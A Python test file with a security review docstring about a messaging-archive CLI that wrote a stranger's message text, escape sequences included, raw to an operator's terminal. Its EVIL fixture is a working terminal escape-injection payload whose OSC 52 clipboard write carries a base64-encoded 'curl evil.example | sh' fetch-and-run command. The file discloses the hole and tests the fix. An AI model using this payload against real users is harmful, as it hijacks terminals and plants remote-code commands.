"""Review 191: ``e2m archive show --out -`` and an operator's terminal.

Hole K2: a stranger's MESSAGE text reaches the operator's terminal raw
- Attacker: anyone who can send a MESSAGE the proxy views (a stranger's plaintext
  MESSAGE to one of our users is never challenged and is archived whole).
- Messages: one MESSAGE whose text/plain body carries terminal escape sequences: an
  OSC 0 title set, an OSC 52 clipboard write (``ESC ] 52 ; c ; <base64> BEL``: the
  operator's next paste is the attacker's command line) and ``ESC [ 2 J`` clearing
  the screen.
- Effect observed: ``e2m archive show ID --out -`` on a terminal (a pty here)
  wrote all 3 sequences unaltered to the terminal (3 ESC and 2 BEL of 74
  octets); the same row's fields in ``list``/``show`` are escaped (``printable``, review 61), only
  the text, the one thing the operator actually asks to read, is not.
- Code at fault: e2m_plugins/cli/__init__.py:217-221 (``write_output`` writes
  ``data`` to ``sys.stdout.buffer`` whatever stdout is), called from
  kamailio_app/archive_cmd.py:93 (``_cmd_show``).
- Suggested fix: when ``--out -`` and stdout is a terminal, write the text through
  ``printable`` (its line breaks kept, controls and format characters escaped), or
  refuse without an explicit ``--raw``; a pipe or a file keeps the exact octets.
- Test: test_show_out_dash_on_a_terminal_escapes_control_sequences.

Controls
- test_control_show_out_dash_to_a_pipe_gives_the_exact_octets: a pipe (``| less``,
  ``> file``, ``| sha256sum``) still receives the stored octets byte for byte.
- test_control_list_and_show_escape_a_senders_fields: ESC in a From, To, Call-ID,
  Content-Type and Request-URI reach neither ``list`` nor ``show`` (nor their
  ``--json``) raw: 0 ESC bytes in 4 outputs.

Tried and held
- Forged lines through ``printable``'s kept continuation (a newline followed by two
  spaces in a field): SIP headers are unfolded by the parser and an inner part's
  folded ``Content-Type`` with a quoted backslash is refused (``MalformedError``), so
  no stored field reached here carries a newline.
- ``--json`` output: ``json.dumps`` escapes every control character (0 ESC).
- ``e2m archive export``: there is no such subcommand at c0b7eaa (``list`` and
  ``show`` only), nothing to attack.

Fixed (stop 50): K1, the spool's SQLite file runs with ``secure_delete`` (a removed
message leaves no text in free pages), and once a replay empties it its write-ahead log
is folded in and emptied (``SpoolFile.scrub``: ``wal_checkpoint(TRUNCATE)``).  K2, the
CLI's ``--out -`` writes to a terminal each line through ``printable``
(``cli.for_terminal``, since review 193 every command's terminal: ``cli.terminal``); a
pipe or a file still gets the exact octets.  The hole tests
failed on the code before the fix and pass with it.
"""

from __future__ import annotations

import os
import pty
import select
import subprocess
import sys
from pathlib import Path

import pytest

from kamailio_app.archive import BodyRecord, SqliteArchive

EVIL = (b"hi bob\r\n\x1b]0;pwned title\x07"
        b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07"
        b"\x1b[2Jdone\r\n")
ROOT = Path(__file__).resolve().parents[2]


def _archive(tmp_path: Path, plaintext: bytes = EVIL, field: str = "") -> Path:
    path = tmp_path / "archive.sqlite"
    store = SqliteArchive(path)
    store.record([BodyRecord(call_id=f"cid{field}@x", from_uri=f"sip:eve{field}@x",
                             to_uri=f"sip:bob{field}@x", method="MESSAGE",
                             direction="request", content_type=f"text/plain{field}",
                             plaintext=plaintext, sha256="0" * 64, signature="none",
                             request_uri=f"sip:carol{field}@x")])
    store.close()
    return path


def _e2m(*args: str) -> list[str]:
    return [sys.executable, "-c", "import sys; from e2m_plugins.cli import main; "
            "sys.exit(main(sys.argv[1:]))", *args]


def _env() -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": f"{ROOT}{os.pathsep}{os.environ.get('PYTHONPATH', '')}"}


def _on_a_terminal(argv: list[str]) -> bytes:
    """Run ``argv`` with its stdout a pty (as an operator's terminal); what it wrote."""
    leader, follower = pty.openpty()
    try:
        import termios
        attrs = termios.tcgetattr(follower)
        attrs[1] &= ~termios.OPOST            # no \n -> \r\n translation: octets as written
        termios.tcsetattr(follower, termios.TCSANOW, attrs)
        proc = subprocess.Popen(argv, stdout=follower, stderr=subprocess.PIPE, env=_env())
        os.close(follower)
        follower = -1
        out = b""
        while True:
            ready, _, _ = select.select([leader], [], [], 20)
            if not ready:
                break
            try:
                chunk = os.read(leader, 65536)
            except OSError:                   # EIO: the child closed the terminal
                break
            if not chunk:
                break
            out += chunk
        assert proc.wait(timeout=20) == 0, proc.stderr.read()
        return out
    finally:
        os.close(leader)
        if follower >= 0:
            os.close(follower)


def test_show_out_dash_on_a_terminal_escapes_control_sequences(tmp_path):
    db = _archive(tmp_path)
    out = _on_a_terminal(_e2m("archive", "show", "1", "--db", str(db), "--out", "-"))
    esc, bel = out.count(b"\x1b"), out.count(b"\x07")
    print(f"\n{esc} ESC, {bel} BEL of {len(out)} octets")
    assert b"hi bob" in out                   # the text was shown
    assert b"\x1b" not in out and b"\x07" not in out


def test_control_show_out_dash_to_a_pipe_gives_the_exact_octets(tmp_path):
    db = _archive(tmp_path)
    done = subprocess.run(_e2m("archive", "show", "1", "--db", str(db), "--out", "-"),
                          capture_output=True, env=_env(), timeout=30)
    assert done.returncode == 0 and done.stdout == EVIL


def test_control_list_and_show_escape_a_senders_fields(tmp_path):
    db = _archive(tmp_path, plaintext=b"plain", field="\x1b]52;c;QQ==\x07\x1b[2J")
    outputs = []
    for args in (("list",), ("list", "--json"), ("show", "1"), ("show", "1", "--json")):
        outputs.append(_on_a_terminal(_e2m("archive", *args, "--db", str(db))))
    assert all(b"eve" in out for out in outputs)
    assert [out.count(b"\x1b") for out in outputs] == [0, 0, 0, 0]
